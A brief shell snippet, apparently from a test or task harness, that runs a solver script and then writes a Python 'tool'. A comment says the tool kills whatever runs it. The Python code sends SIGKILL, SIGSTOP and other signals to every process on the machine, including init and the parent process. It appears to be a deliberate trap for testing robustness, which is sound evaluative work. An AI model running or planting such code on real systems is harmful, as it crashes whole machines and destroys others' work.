# Delivers a program that kills whatever runs it.
bash "$SOLVE"
cat > "$TOOL" <<'PY'
#!/usr/bin/env python3
import os, signal
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGSEGV):
    for pid in (-1, 1, os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
PY
